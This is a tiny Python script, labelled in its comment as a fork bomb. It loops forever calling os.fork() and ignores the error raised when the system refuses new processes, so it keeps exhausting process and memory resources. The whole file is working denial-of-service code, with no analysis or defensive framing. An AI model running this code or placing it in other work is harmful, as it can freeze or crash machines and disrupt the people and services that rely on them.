# A fork bomb that does not mind being refused.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
